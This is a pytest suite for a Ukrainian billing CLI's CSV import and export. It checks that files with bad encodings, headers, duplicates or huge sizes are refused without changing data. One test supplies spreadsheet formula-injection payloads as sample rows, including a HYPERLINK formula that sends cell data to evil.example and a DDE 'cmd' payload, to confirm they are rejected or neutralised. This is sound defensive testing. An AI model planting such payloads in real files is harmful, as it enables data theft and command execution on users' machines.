"""`otke import-accounts` and `otke export-readings` against hostile files, as operators run them.

Every refused file must leave the register exactly as it was: each test starts from a loaded
register, offers a file whose good rows would change it, and compares every row afterwards.
"""

from __future__ import annotations

import codecs
import csv
import errno
import io
import os
import random
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import BinaryIO

import pytest
from sqlalchemy import text

from actions.operators.billing import import_accounts
from actions.register import db
from actions.register.meter import find_meter
from actions.register.models import Account, Meter, MeterKind
from actions.register.reading import submit_reading
from tests.support.otke import GOOD, HEADER, OTKE, otke

EXPECTED = "(очікується account_number,address,meter_number,meter_kind,last_reading,last_period)"
# Good rows that would change the loaded register: a new address, kind and reading, a new account.
CHANGES = [
    '12345,"м. Чернігів, вул. Нова, 1",111111,hot_water,480.00,2026-03',
    '12345,"м. Чернігів, вул. Нова, 1",222222,hot_water,,',
    "45678,вул. Миру 9,777777,heat,,",
]
NOISE = random.Random(0).randbytes(100_000)  # noqa: S311 (the same bytes every run; nothing secret)
GIB = 1 << 30
MIB = 1 << 20


def snapshot() -> list[tuple[object, ...]]:
    """Every row of the register, in full."""
    with db.engine().connect() as connection:
        return [
            (table, *row)
            for table in ("accounts", "meters", "readings")
            for row in connection.execute(text(f"SELECT * FROM {table} ORDER BY id"))
        ]


@pytest.fixture
def register(committed_db: str) -> Iterator[list[tuple[object, ...]]]:
    """The register loaded from GOOD (2 accounts, 3 meters, 2 readings); yields its snapshot."""
    with db.transaction() as session:
        assert not import_accounts(session, GOOD).errors
    before = snapshot()
    assert len(before) == 7
    yield before


def file_of(tmp_path: Path, data: bytes) -> str:
    path = tmp_path / "billing.csv"
    path.write_bytes(data)
    return str(path)


def lines(*rows: str, end: str = "\n") -> bytes:
    return "".join(row + end for row in rows).encode()


def refused(result: subprocess.CompletedProcess[str], path: str, message: str) -> None:
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == f"otke: {path}: {message}; нічого не записано\n"


# --- encodings and bytes that are not text ------------------------------------------------------------

MANY = [f"{20000 + i},вул. Довга {i},{i},heat,{i % 1000}.5,2026-02" for i in range(6000)]  # > one chunk


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            "\n".join([HEADER, *CHANGES]).encode("cp1251"),
            "рядок 2: файл не в кодуванні UTF-8, схоже на Windows-1251; збережіть його як «CSV UTF-8»",
        ),
        (
            "\r\n".join([HEADER, *CHANGES]).encode("utf-16"),
            "файл у кодуванні UTF-16; збережіть його як «CSV UTF-8»",
        ),
        (
            "\r\n".join([HEADER, *CHANGES]).encode("utf-16-le"),
            "рядок 1: нульовий байт (NUL); це не текстовий CSV (двійковий файл або UTF-16), "
            "збережіть його як «CSV UTF-8»",
        ),
        (
            NOISE,
            "рядок 1: файл не в кодуванні UTF-8, схоже на двійковий файл; збережіть його як «CSV UTF-8»",
        ),
        (
            lines(HEADER, CHANGES[0]) + b"45678,\xd0\x92\xd1\x83\xd0\xbb. \x00,777777,heat,,\n",
            "рядок 3: нульовий байт (NUL); це не текстовий CSV (двійковий файл або UTF-16), "
            "збережіть його як «CSV UTF-8»",
        ),
        (
            lines(HEADER, *CHANGES, *MANY)
            + "99999,вул. Шевченка,1,heat,,\n".encode("cp1251")
            + lines(*MANY[:9]),
            "рядок 6005: файл не в кодуванні UTF-8, схоже на Windows-1251; збережіть його як «CSV UTF-8»",
        ),
        (
            b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + NOISE[:4000],
            "це книга Excel (.xlsx) чи інший ZIP-архів, а не CSV; збережіть його як «CSV UTF-8»",
        ),
    ],
    ids=["cp1251", "utf-16", "utf-16-no-bom", "binary", "nul", "invalid-utf8-after-a-written-chunk", "xlsx"],
)
@pytest.mark.parametrize("skip_invalid", [[], ["--skip-invalid"]], ids=["all-or-nothing", "skip-invalid"])
def test_not_utf8_text_is_refused_with_its_line(
    register: list[tuple[object, ...]], tmp_path: Path, data: bytes, message: str, skip_invalid: list[str]
) -> None:
    path = file_of(tmp_path, data)
    refused(otke("import-accounts", *skip_invalid, path), path, message)
    assert snapshot() == register


def test_invalid_utf8_on_stdin_after_a_written_chunk(register: list[tuple[object, ...]]) -> None:
    data = lines(HEADER, *MANY) + b"99999,\xff,1,heat,,\n"
    result = otke("import-accounts", "--skip-invalid", "-", stdin=data)
    refused(result, "-", "рядок 6002: файл не в кодуванні UTF-8; збережіть його як «CSV UTF-8»")
    assert snapshot() == register


# --- what Excel and billing systems write, accepted ---------------------------------------------------


def test_excel_csv_with_bom_crlf_newline_in_quotes_and_extra_columns(
    register: list[tuple[object, ...]], tmp_path: Path
) -> None:
    rows = [
        f"owner,{HEADER},,debt",
        f'"Іваненко І.",{CHANGES[0]},,"=SUM(A1:A9)"',
        '"Іваненко І.",12345,"м. Чернігів,\r\nвул. Нова, 1",222222,hot_water,,,,0',
        f"Петренко,{CHANGES[2]},,",
    ]
    path = file_of(tmp_path, codecs.BOM_UTF8 + "\r\n".join(rows).encode() + b"\r\n")
    result = otke("import-accounts", path)
    assert result.returncode == 0
    assert (
        result.stderr
        == "otke: увага: стовпці не використовуються й пропущені: 'owner', '№8 без назви', 'debt'\n"
    )
    assert result.stdout == (
        "рядків: 3, з помилками: 0; рахунки: створено 1, оновлено 1; "
        "лічильники: створено 1, оновлено 1; показання: створено 1, оновлено 0\n"
    )
    with db.transaction() as session:
        meter = find_meter(session, "12345", "111111")
        assert meter is not None
        assert (meter.kind, meter.account.address) == (MeterKind.HOT_WATER, "м. Чернігів, вул. Нова, 1")
        assert find_meter(session, "45678", "777777") is not None


# --- headers ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "файл порожній: немає рядка заголовка"),
        ("\ufeff", "файл порожній: немає рядка заголовка"),
        ("\r\n\r\n  \r\n", "файл порожній: немає рядка заголовка"),
        (f"{HEADER}\n", "у файлі лише заголовок, рядків з даними немає"),
        (f"\ufeff{HEADER}\r\n,,,,,\r\n\r\n", "у файлі лише заголовок, рядків з даними немає"),
        (
            "\n".join(CHANGES),
            "немає рядка заголовка: перший рядок '12345,м. Чернігів, вул. Нова, 1,111111,h…' "
            f"не містить назв стовпців {EXPECTED}",
        ),
        (
            "\n".join(["account,address,meter,kind", *CHANGES]),
            f"заголовок: бракує стовпців account_number, meter_number, meter_kind; "
            f"невідомі стовпці 'account', 'meter', 'kind' {EXPECTED}",
        ),
        (
            "\n".join(["account_number;address;meter_number;meter_kind", "12345;a;1;heat"]),
            "розділювач стовпців - крапка з комою, а має бути кома: "
            "збережіть файл як «CSV UTF-8 (розділювач - кома)»",
        ),
        (
            "\n".join([HEADER.replace("meter_number", "Meter Number"), *CHANGES]),
            f"заголовок: бракує стовпців meter_number; 'Meter Number' - можливо, meter_number? {EXPECTED}",
        ),
        (
            "\n".join([HEADER.replace("last_period", "last_periods"), *CHANGES]),
            "заголовок: 'last_periods' - можливо, last_period?; "
            f"last_reading і last_period задаються лише разом {EXPECTED}",
        ),
        (
            "\n".join([HEADER + ",address", *(row + ",x" for row in CHANGES)]),
            f"заголовок: стовпці повторюються: address {EXPECTED}",
        ),
    ],
    ids=[
        "empty",
        "bom-only",
        "blank-lines",
        "header-only",
        "header-and-blank-rows",
        "no-header",
        "wrong-names",
        "semicolons",
        "misspelt-required",
        "misspelt-optional",
        "duplicated",
    ],
)
def test_bad_file_or_header_is_refused(
    register: list[tuple[object, ...]], tmp_path: Path, content: str, message: str
) -> None:
    path = file_of(tmp_path, content.encode())
    refused(otke("import-accounts", path), path, message)
    assert snapshot() == register


# --- rows in relation to each other, formula-looking values ------------------------------------------


def test_duplicate_rows_are_each_reported(register: list[tuple[object, ...]], tmp_path: Path) -> None:
    rows = [
        HEADER,
        CHANGES[0],  # 2
        CHANGES[2],  # 3
        CHANGES[0],  # 4: exact
        CHANGES[0].replace("480.00", "480"),  # 5: the same value written otherwise
        CHANGES[0].replace("480.00", "481.00"),  # 6: conflicting reading
        CHANGES[2].replace(",heat,", ",hot_water,"),  # 7: conflicting kind
        CHANGES[2].replace("Миру 9", "Миру 10"),  # 8: conflicting address
    ]
    path = file_of(tmp_path, lines(*rows))
    expected_errors = (
        "рядок 4: повторює рядок 2 (лічильник 111111 рахунку 12345)\n"
        "рядок 5: повторює рядок 2 (лічильник 111111 рахунку 12345)\n"
        "рядок 6: лічильник 111111 рахунку 12345 уже є в рядку 2, але інші: показання або період\n"
        "рядок 7: лічильник 777777 рахунку 45678 уже є в рядку 3, але інші: вид\n"
        "рядок 8: лічильник 777777 рахунку 45678 уже є в рядку 3, але інші: адреса\n"
    )
    result = otke("import-accounts", path)
    assert (result.returncode, result.stdout) == (1, "")
    assert result.stderr == expected_errors + (
        "Нічого не записано. рядків: 7, з помилками: 5; рахунки: створено 0, оновлено 0; "
        "лічильники: створено 0, оновлено 0; показання: створено 0, оновлено 0\n"
    )
    assert snapshot() == register
    # With --skip-invalid the first of each is written, and only once.
    result = otke("import-accounts", "--skip-invalid", path)
    assert (result.returncode, result.stderr) == (0, expected_errors)
    assert result.stdout == (
        "рядків: 7, з помилками: 5; рахунки: створено 1, оновлено 1; "
        "лічильники: створено 1, оновлено 1; показання: створено 1, оновлено 0\n"
    )


def test_formula_looking_values_are_refused(register: list[tuple[object, ...]], tmp_path: Path) -> None:
    rows = [
        HEADER,
        CHANGES[0],
        '12345,"=HYPERLINK(""http://evil.example/?""&A1,""Оплатити"")",222222,heat,,',
        "45678,+cmd|' /C calc'!A0,777777,heat,,",
        "45678,@SUM(1+1)*cmd,777777,heat,,",
        "45678,вул. Миру 9,-2/3,heat,,",
        "45678,вул. Миру 9,=1+2,heat,,",
        "45678,вул. Миру 9,777777,@SUM,,",
        "45678,вул. Миру 9,777777,heat,=1+2,2026-03",
    ]
    result = otke("import-accounts", file_of(tmp_path, lines(*rows)))
    assert result.returncode == 1
    assert result.stderr.splitlines()[:-1] == [
        "рядок 3: адреса починається з '=', як формула таблиці: '=HYPERLINK(\"http://evil.example/?\"&A1,\"О…'",
        "рядок 4: адреса починається з '+', як формула таблиці: \"+cmd|' /C calc'!A0\"",
        "рядок 5: адреса починається з '@', як формула таблиці: '@SUM(1+1)*cmd'",
        "рядок 6: номер лічильника починається з '-', як формула таблиці: '-2/3'",
        "рядок 7: некоректний номер лічильника '=1+2' (1-32 літери, цифри, '-', '/', '.')",
        "рядок 8: невідомий вид лічильника '@SUM' (heat або hot_water)",
        "рядок 9: показання не є числом: '=1+2'",
    ]
    assert snapshot() == register


def test_export_never_writes_a_formula(register: list[tuple[object, ...]], tmp_path: Path) -> None:
    """Values that reached the register some other way (an older import, a hand edit) are neutralised."""
    with db.transaction() as session:
        account = session.query(Account).filter_by(number="12345").one()
        for number, channel in [
            ('=HYPERLINK("http://x","y")', "@SUM(1+1)"),
            ("-A1", "+cmd"),
            ("7", "\tviber"),
        ]:
            meter = Meter(account_id=account.id, number=number, kind=MeterKind.HEAT)
            session.add(meter)
            session.flush()
            submit_reading(session, meter.id, Decimal("12.50"), channel=channel, period="2026-03")
        heat = find_meter(session, "12345", "111111")
        assert heat is not None
        submit_reading(session, heat.id, Decimal("3.00"), channel="=1+2", period="2026-03")  # rolled over
    out = tmp_path / "readings.csv"
    result = otke("export-readings", "--period", "2026-03", "--out", str(out))
    assert (result.returncode, result.stderr) == (0, "показань за 2026-03: 4\n")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert sorted(row[:3] + row[4:7] + row[8:] for row in rows[1:]) == [
        ["12345", "'-A1", "heat", "12.50", "", "", "'+cmd"],
        ["12345", '\'=HYPERLINK("http://x","y")', "heat", "12.50", "", "", "'@SUM(1+1)"],
        ["12345", "111111", "heat", "3.00", "475.10", "527.90", "'=1+2"],
        ["12345", "7", "heat", "12.50", "", "", "'\tviber"],
    ]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


# --- size: lines, fields, a gigabyte ------------------------------------------------------------------


def test_a_huge_quoted_field_is_refused(register: list[tuple[object, ...]], tmp_path: Path) -> None:
    # Every line is short, but a quote that never closes swallows the file into one field.
    data = lines(HEADER, CHANGES[0], '45678,"вул. Миру 9,777777,heat,,', *[CHANGES[2]] * 20_000)
    path = file_of(tmp_path, data)
    refused(
        otke("import-accounts", path),
        path,
        "рядок 3: поле довше за 131072 символів (мабуть, лапка відкрита й не закрита); далі не читається",
    )
    assert snapshot() == register


def open_for_writing(fifo: Path, pid: int) -> BinaryIO | None:
    """The FIFO's writing end once the child opens it for reading; None if the child exits first."""
    while True:
        try:
            fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)  # ENXIO while nobody reads
        except OSError as error:
            if error.errno != errno.ENXIO:
                raise
            if os.waitid(os.P_PID, pid, os.WEXITED | os.WNOHANG | os.WNOWAIT) is not None:
                return None
            time.sleep(0.02)
            continue
        os.set_blocking(fd, True)
        return os.fdopen(fd, "wb")


def _sample_peak_rss(pid: int, peak: list[int]) -> None:
    """The child's VmHWM until it exits. Not wait4's ru_maxrss: on Linux a process started by a
    large parent (pytest after the whole suite) reports the parent's high-water mark there."""
    status = Path(f"/proc/{pid}/status")
    while True:
        try:
            lines = status.read_text().splitlines()
        except OSError:
            return
        hwm = [line for line in lines if line.startswith("VmHWM:")]
        if not hwm:  # exited (a zombie has no memory)
            return
        peak[0] = max(peak[0], int(hwm[0].split()[1]) * 1024)
        time.sleep(0.01)


@dataclass
class Streamed:
    status: int
    stderr: str
    peak_rss: int  # bytes: the child's own high-water mark (VmHWM), sampled while it runs
    given: int  # bytes the child took before it stopped reading
    cut_off: bool  # the child went away before the feed ended


def run_streaming(args: list[str], feed: Iterator[bytes], *, fifo: Path | None = None) -> Streamed:
    """Run otke feeding it ``feed`` (on stdin, or through ``fifo``) until it stops reading."""
    env = dict(os.environ)
    stdin = subprocess.DEVNULL if fifo else subprocess.PIPE
    child = subprocess.Popen(
        [str(OTKE), *args], stdin=stdin, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env
    )
    peak = [0]
    sampler = threading.Thread(target=_sample_peak_rss, args=(child.pid, peak))
    sampler.start()
    output: dict[str, bytes] = {}
    readers = [
        threading.Thread(target=lambda name=name, pipe=pipe: output.__setitem__(name, pipe.read()))
        for name, pipe in (("stdout", child.stdout), ("stderr", child.stderr))
    ]
    for reader in readers:
        reader.start()
    given, cut_off = 0, False
    sink = open_for_writing(fifo, child.pid) if fifo else child.stdin
    if sink is not None:
        try:
            with sink:
                for chunk in feed:
                    sink.write(chunk)
                    given += len(chunk)
        except BrokenPipeError:
            cut_off = True
    for reader in readers:
        reader.join()
    sampler.join()
    _, status, _ = os.wait4(child.pid, 0)
    child.returncode = os.waitstatus_to_exitcode(status)
    assert output["stdout"] == b""
    stderr = output["stderr"].decode()
    assert "Traceback" not in stderr, stderr
    return Streamed(child.returncode, stderr, peak[0], given, cut_off)


def test_a_gigabyte_without_line_ends_is_refused_after_64_kib(
    register: list[tuple[object, ...]], tmp_path: Path
) -> None:
    fifo = tmp_path / "endless.csv"  # a path, as operators give it, that is never all on disk
    os.mkfifo(fifo)
    block = b"x" * (64 * 1024)

    def gigabyte() -> Iterator[bytes]:
        yield lines(HEADER, *CHANGES)
        for _ in range(GIB // len(block)):
            yield block

    run = run_streaming(["import-accounts", str(fifo)], gigabyte(), fifo=fifo)
    assert (run.status, run.stderr) == (
        2,
        f"otke: {fifo}: рядок 5 довший за 64 КіБ; це не CSV білінгу (двійковий файл або файл без "
        "кінців рядків), далі не читається; нічого не записано\n",
    )
    assert run.cut_off and run.given < 4 * MIB  # it stopped reading at once: the writer met a closed pipe
    assert run.peak_rss < 128 * MIB
    assert snapshot() == register


def test_a_gigabyte_on_stdin_is_streamed_in_bounded_memory(register: list[tuple[object, ...]]) -> None:
    """1 GiB of rows read to the end (every row is counted) while the importer's memory stays flat.

    Each row carries a 30,000-digit account number: refused at the first check, so the run is
    about reading, and a message that kept the value (or every error) would grow with the file.
    """
    row = ("9" * 30_000 + ",вул. Довга,1,heat,,\n").encode()
    rows = GIB // len(row) + 1

    def gigabyte() -> Iterator[bytes]:
        yield lines(HEADER, *CHANGES)
        batch = row * 32  # about 1 MB per write
        for _ in range(rows // 32):
            yield batch
        yield row * (rows % 32)

    run = run_streaming(["import-accounts", "-"], gigabyte())
    assert not run.cut_off and run.given > GIB
    shown = run.stderr.splitlines()
    assert (run.status, len(shown)) == (1, 52)
    assert shown[0] == f"рядок 5: номер особового рахунку має бути з п'яти цифр: '{'9' * 40}…'"
    assert shown[50] == f"... і ще {rows - 50} помилок"
    assert shown[51] == (
        f"Нічого не записано. рядків: {rows + 3}, з помилками: {rows}; рахунки: створено 0, оновлено 0; "
        "лічильники: створено 0, оновлено 0; показання: створено 0, оновлено 0"
    )
    assert run.peak_rss < 128 * MIB, f"peak RSS {run.peak_rss // MIB} MiB for {run.given // MIB} MiB of input"
    assert snapshot() == register
